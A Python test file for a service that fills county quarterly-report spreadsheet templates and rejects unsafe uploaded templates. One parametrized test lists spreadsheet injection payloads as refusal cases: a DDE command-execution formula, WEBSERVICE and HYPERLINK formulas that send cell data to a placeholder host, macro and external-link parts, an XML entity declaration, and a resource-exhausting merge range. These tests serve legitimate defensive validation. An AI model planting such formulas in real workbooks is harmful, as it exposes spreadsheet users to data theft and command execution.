"""Workbooks in the layout of the county: filled by name, all else kept; nothing in them may run."""

import random
from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from sqlalchemy import select, update

from models.audit import AuditEntry
from models.room import Room
from services.desk import Desk
from services.errors import BadLayout, CannotRead, Conflict, NotFound
from services.indicators.periods import PeriodKind
from services.interop.layouts import names
from services.interop.layouts.reading import LARGEST_FILE, check, is_harmless
from services.summary.reports import PeriodReportService
from services.summary.service import SummaryService
from tests.services.summary.records import months, random_month
from tests.services.summary.test_service import close

QUARTER = PeriodKind.QUARTER


@pytest.fixture
def reports(desk: Desk) -> PeriodReportService:
    """Three closed months."""
    summaries, chance = SummaryService(desk), random.Random(3)
    for month in months(7, 3):
        random_month(desk, month, 20, chance)
        close(summaries, month)
    return PeriodReportService(desk)


def a_layout(change: Callable[[Workbook], None] | None = None, **cells: str) -> bytes:
    """A county's own sheet; ``cells``: name with underscores for full stops to the cell."""
    book = Workbook()
    book.active.title = "季报 一"
    for name, place in {"visits_total_step": "$B$2", **cells}.items():
        name = name.replace("_", ".")
        book.defined_names[name] = DefinedName(name, attr_text=f"'季报 一'!{place}")
    if change is not None:
        change(book)
    content = BytesIO()
    book.save(content)
    return content.getvalue()


def with_part(content: bytes, name: str, body: bytes) -> bytes:
    """The same archive with one more part, or with another body for it."""
    out = BytesIO()
    with ZipFile(BytesIO(content)) as old, ZipFile(out, "w", ZIP_DEFLATED) as new:
        for part in old.namelist():
            if part != name:
                new.writestr(part, old.read(part))
        new.writestr(name, body)
    return out.getvalue()


def named(content: bytes) -> dict[str, object]:
    """What stands in the named cells of a workbook."""
    book = load_workbook(BytesIO(content))
    found: dict[str, object] = {}
    for name, defined in book.defined_names.items():
        for title, place in defined.destinations:
            found[name] = book[title][place].value
    return found


def test_the_shipped_layout_holds_every_published_figure(reports: PeriodReportService) -> None:
    report = reports.report("2026-Q3")
    found = named(reports.workbook("2026-Q3"))
    for population in report.populations:
        code = population.population.value
        assert found[f"{code}.total.step"] == population.step
        assert found[f"{code}.pending.year"] == population.year_pending
        for table in population.tables:
            for row in table.rows:
                name = names.name_of(code, table.name, names.row_path(table, row.code), "step")
                assert found[name] == ("—" if row.step is None else row.step)
    assert found["room.name"] == "石桥村社会心理服务室"
    assert found["period"] == "2026 年第 3 季度"
    assert found["period.missing"] == "各月齐全。"


def test_names_are_those_of_a_spreadsheet_and_each_is_there_once(
    reports: PeriodReportService,
) -> None:
    from services.code_lists import CodeLists
    from services.summary.period_words import PeriodWords

    words = PeriodWords(CodeLists(), QUARTER)
    figures = names.figures(reports.report("2026-Q3"), words)
    assert len({figure.name for figure in figures}) == len(figures)
    assert all(figure.name.isascii() and figure.name[0].isalpha() for figure in figures)
    assert all(figure.means for figure in figures)
    for wanted in ("visits.topic.mood.year", "visits.age_sex.18_34.male.step", "visits.total.m07"):
        assert wanted in {figure.name for figure in figures}


def test_the_same_figures_give_the_same_bytes(reports: PeriodReportService) -> None:
    assert reports.workbook("2026-Q3") == reports.workbook("2026-Q3")


def test_an_empty_layout_goes_to_the_county(reports: PeriodReportService, tmp_path: Path) -> None:
    path = tmp_path / "layout.xlsx"
    reports.save_layout(QUARTER, path)
    assert set(named(path.read_bytes()).values()) == {None}
    result = reports.check_layout(QUARTER, path)
    assert result.unknown == ()
    assert result.filled > 100


def test_the_countys_layout_is_filled_and_all_else_kept(
    reports: PeriodReportService, tmp_path: Path
) -> None:
    def decorate(book: Workbook) -> None:
        sheet = book.active
        sheet["A1"] = "县精神卫生工作季报"
        sheet["A1"].font = Font(bold=True, size=20)
        sheet["B2"].number_format = "0.0"
        sheet["B2"].fill = PatternFill("solid", fgColor="FFEECC")
        sheet["B4"] = "=SUM(B2:B3)"
        sheet["B5"] = 17
        sheet.merge_cells("C1:E1")
        sheet.column_dimensions["A"].width = 41
        sheet.print_area = "A1:E9"
        rule = FormulaRule(formula=["B2>10"], fill=PatternFill("solid", bgColor="FF0000"))
        sheet.conditional_formatting.add("B2", rule)
        sheet.add_data_validation(DataValidation(type="whole", formula1="0", formula2="9"))

    path = tmp_path / "县里的版式.xlsx"
    path.write_bytes(a_layout(decorate, persons_total_year="$B$3:$C$3", room_name="$C$1"))
    taken = reports.take_layout(QUARTER, path)
    assert taken.file_name == "县里的版式.xlsx"
    assert reports.layout(QUARTER) == taken
    assert reports.layout(PeriodKind.YEAR) is None
    report = reports.report("2026-Q3")
    sheet = load_workbook(BytesIO(reports.workbook("2026-Q3")))["季报 一"]
    assert sheet["B2"].value == report.populations[0].step
    assert sheet["B3"].value == report.populations[1].year
    assert sheet["C1"].value == report.room_name
    assert (sheet["B4"].value, sheet["B5"].value) == ("=SUM(B2:B3)", 17)
    assert sheet["A1"].font.size == 20
    assert sheet["B2"].number_format == "0.0"
    assert sheet["B2"].fill.fgColor.rgb == "00FFEECC"
    assert [str(merged) for merged in sheet.merged_cells.ranges] == ["C1:E1"]
    assert sheet.column_dimensions["A"].width == 41
    assert sheet.print_area == "'季报 一'!$A$1:$E$9"
    assert len(sheet.conditional_formatting) == 1
    reports.drop_layout(QUARTER)
    assert reports.layout(QUARTER) is None
    with pytest.raises(NotFound):
        reports.drop_layout(QUARTER)


def test_unknown_names_are_listed_and_left_alone(
    reports: PeriodReportService, tmp_path: Path
) -> None:
    path = tmp_path / "layout.xlsx"

    def type_in(book: Workbook) -> None:
        book.active["D4"] = "待填"

    path.write_bytes(a_layout(type_in, visits_topic_luck_step="$D$4"))
    assert reports.check_layout(QUARTER, path).unknown == ("visits.topic.luck.step",)
    assert reports.take_layout(QUARTER, path).unknown == ("visits.topic.luck.step",)
    assert load_workbook(BytesIO(reports.workbook("2026-Q3")))["季报 一"]["D4"].value == "待填"


def test_a_room_name_that_looks_like_a_formula_is_text(
    desk: Desk, reports: PeriodReportService
) -> None:
    with desk.write() as session:
        session.execute(update(Room).values(name='=HYPERLINK("http://x","石桥")'))
    content = reports.workbook("2026-Q3")
    assert named(content)["room.name"] == '\'=HYPERLINK("http://x","石桥")'
    with ZipFile(BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert all(b"<f>" not in archive.read(name) for name in sheets)


def test_the_file_does_not_say_who_saved_it_when(reports: PeriodReportService) -> None:
    properties = load_workbook(BytesIO(reports.workbook("2026-Q3"))).properties
    assert properties.creator == "Anxinbu"
    assert properties.lastModifiedBy is None
    assert f"{properties.created:%Y-%m-%d %H:%M}" == "2026-11-22 00:00"


def test_saving_is_audited_and_named_neutrally(
    desk: Desk, reports: PeriodReportService, tmp_path: Path
) -> None:
    name = reports.file_name("2026-Q3", ".xlsx")
    assert name == "k7m2qa-2026-Q3.xlsx"
    reports.save_workbook("2026-Q3", tmp_path / name)
    reports.save_page("2026-Q3", tmp_path / "report.pdf")
    assert (tmp_path / "report.pdf").read_bytes().startswith(b"%PDF-")
    with desk.read() as session:
        actions = list(session.scalars(select(AuditEntry.action).order_by(AuditEntry.id)))
    assert actions[-2:] == ["report_saved", "report_saved"]


def test_before_the_first_report_there_is_no_layout(desk: Desk, tmp_path: Path) -> None:
    with pytest.raises(Conflict, match="nothing_published"):
        PeriodReportService(desk).save_layout(QUARTER, tmp_path / "layout.xlsx")


def put(value: str, place: str = "F9") -> Callable[[Workbook], None]:
    """A change that types into a cell."""

    def change(book: Workbook) -> None:
        book.active[place] = value

    return change


def link(book: Workbook) -> None:
    book.active["F9"].hyperlink = "http://example.org/"


def far_name(book: Workbook) -> None:
    book.defined_names["far"] = DefinedName("far", attr_text="[1]Sheet1!$A$1")


def send_by_rule(book: Workbook) -> None:
    rule = FormulaRule(formula=['WEBSERVICE("http://x/"&B2)'])
    book.active.conditional_formatting.add("B2", rule)


def send_by_check(book: Workbook) -> None:
    validation = DataValidation(type="custom", formula1="[2]S!A1", sqref="B2")
    book.active.add_data_validation(validation)


PLAIN = a_layout()
HUGE_MERGE = with_part(
    PLAIN,
    "xl/worksheets/sheet1.xml",
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/>'
    b'<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>',
)


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"", "not_a_workbook"),
        (b"PK\x03\x04" + b"\0" * 90, "not_a_workbook"),
        (PLAIN[:-200], "not_a_workbook"),
        (with_part(PLAIN, "xl/worksheets/sheet1.xml", b"<worksheet"), "damaged"),
        (with_part(PLAIN, "xl/vbaProject.bin", b"x"), "macros"),
        (with_part(PLAIN, "xl/activeX/activeX1.xml", b"<a/>"), "macros"),
        (with_part(PLAIN, "xl/externalLinks/externalLink1.xml", b"<a/>"), "links"),
        (with_part(PLAIN, "xl/connections.xml", b"<a/>"), "links"),
        (with_part(PLAIN, "xl/a.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a/>'), "damaged"),
        (with_part(PLAIN, "xl/a.xml", "<a/>".encode("utf-16")), "damaged"),
        (with_part(PLAIN, "xl/big.xml", b" " * (17 * 2**20)), "too_large"),
        (b"PK" + b"x" * LARGEST_FILE, "too_large"),
        (HUGE_MERGE, "too_large"),
        (a_layout(put('=WEBSERVICE("http://x/"&B2)')), "formula"),
        (a_layout(put('=HYPERLINK("http://x/"&B2)')), "formula"),
        (a_layout(put("=cmd|' /C calc'!A0")), "formula"),
        (a_layout(put("=[1]Sheet1!A1")), "formula"),
        (a_layout(put("=INDIRECT(B9)")), "formula"),
        (a_layout(put("=RTD(B2)", "XFD1048576")), "formula"),
        (a_layout(far_name), "formula"),
        (a_layout(send_by_rule), "formula"),
        (a_layout(send_by_check), "formula"),
        (a_layout(link), "links"),
    ],
)
def test_what_could_run_fetch_or_send_is_refused(content: bytes, reason: str) -> None:
    with pytest.raises(BadLayout) as refused:
        check(content, {"visits.total.step"})
    assert refused.value.detail == reason


def test_a_workbook_in_which_nothing_would_be_filled_is_no_layout() -> None:
    with pytest.raises(BadLayout, match="no_names"):
        check(PLAIN, {"persons.total.step"})


def test_pictures_and_charts_cannot_be_kept_and_that_is_said() -> None:
    content = with_part(PLAIN, "xl/charts/chart1.xml", b"<a/>")
    assert check(content, {"visits.total.step"}).not_kept == ("charts",)


def test_what_the_library_does_not_know_is_said() -> None:
    sheet = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/>'
        b'<extLst><ext uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}"/></extLst></worksheet>'
    )
    content = with_part(PLAIN, "xl/worksheets/sheet1.xml", sheet)
    assert check(content, {"visits.total.step"}).not_kept == ("other",)


def test_a_refused_file_leaves_the_layout_as_it_was(
    reports: PeriodReportService, tmp_path: Path
) -> None:
    path = tmp_path / "layout.xlsx"
    path.write_bytes(PLAIN)
    taken = reports.take_layout(QUARTER, path)
    path.write_bytes(with_part(PLAIN, "xl/vbaProject.bin", b"x"))
    with pytest.raises(BadLayout):
        reports.take_layout(QUARTER, path)
    assert reports.layout(QUARTER) == taken
    with pytest.raises(CannotRead):
        reports.take_layout(QUARTER, tmp_path / "gone.xlsx")


@pytest.mark.parametrize("formula", ["=SUM(B2:B9)", "=IF(B2>0,ROUND(B3/B2,2),0)", "='季报 一'!B2"])
def test_adding_up_is_harmless(formula: str) -> None:
    assert is_harmless(formula)
